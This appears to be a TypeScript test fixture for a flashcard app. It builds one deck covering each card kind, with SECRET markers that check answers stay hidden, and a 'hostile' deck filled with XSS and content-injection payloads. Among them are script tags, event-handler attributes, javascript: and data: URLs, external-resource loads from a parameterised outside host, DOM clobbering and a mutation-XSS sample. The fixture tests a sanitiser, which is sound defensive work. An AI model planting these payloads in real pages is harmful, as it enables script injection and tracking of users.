/** The id that an import gives the deck below. */
export const EVERY_KIND = 'my:kinds';

/** One card of each kind. Nothing of an answer that says SECRET may be on the page before the reveal. */
export const everyKind = `---
id: kinds
title: Every kind
---

## Kinds

### A basic question {#basic}

SECRET-basic is the answer.

### A prediction {#prediction}

What does it print?

\`\`\`go
package main

import "fmt"

func main() {
	fmt.Println("a" + "b")
}
\`\`\`

---

\`\`\`output
ab
\`\`\`

SECRET-prediction: plus joins strings.

### A choice {#choice}

Which one is a reference type?

- [ ] an array
  SECRET-note of the wrong one
- [x] a map
- [ ] a struct

---

SECRET-choice: a map is a pointer inside.

### A cloze {#cloze}

Ranging over a map goes in {{c1::SECRET-cloze}} order.
`;

/** The id that an import gives the deck below. */
export const HOSTILE = 'my:hostile';

/** What strangers put into cards: each in a question and in an answer. */
const attacks = (outside: string): string[] => [
  '<script>window.pwned = 1</script>',
  `<script src="${outside}/x.js"></script>`,
  '<img src=x onerror="window.pwned = 1">',
  `<img src="${outside}/pixel.png">`,
  `![pixel](${outside}/pixel.png)`,
  '<svg onload="window.pwned = 1"><a href="javascript:window.pwned = 1">x</a></svg>',
  '[click](javascript:window.pwned=1)',
  '[click](JaVaScRiPt:window.pwned=1)',
  '[click](data:text/html,<script>opener.pwned=1</script>)',
  '<a href="javascript:window.pwned = 1">click</a>',
  '<p onclick="window.pwned = 1" onmouseover="window.pwned = 1">touch</p>',
  `<form action="${outside}"><button>send</button></form>`,
  `<base href="${outside}/">`,
  `<meta http-equiv="refresh" content="0;url=${outside}">`,
  `<link rel="stylesheet" href="${outside}/x.css">`,
  `<style>@import url(${outside}/x.css); body { background: url(${outside}/x.png) }</style>`,
  `<p style="background: url(${outside}/x.png); position: fixed; inset: 0">over all</p>`,
  `<iframe src="${outside}"></iframe>`,
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  `<object data="${outside}"></object><embed src="${outside}">`,
  `<video src="${outside}/x.mp4" autoplay></video><audio src="${outside}/x.mp3" autoplay></audio>`,
  '<p id="app" name="getElementById">clobber</p>',
  `<math><mtext></mtext><mglyph><style><img src=x onerror="window.pwned = 1"></style></mglyph></math>`,
  '`<img src=x onerror="window.pwned = 1">`',
];

export function hostile(outside: string): string {
  const perCard = 6;
  const all = attacks(outside);
  const cards = Array.from({ length: all.length / perCard }, (_, card) => {
    const mine = all.slice(card * perCard, (card + 1) * perCard).join('\n\n');
    return `### Hostile card ${card}\n\nQuestion\n\n${mine}\n\n---\n\nAnswer\n\n${mine}\n`;
  });
  return ['---\nid: hostile\ntitle: Hostile\n---\n', ...cards].join('\n');
}
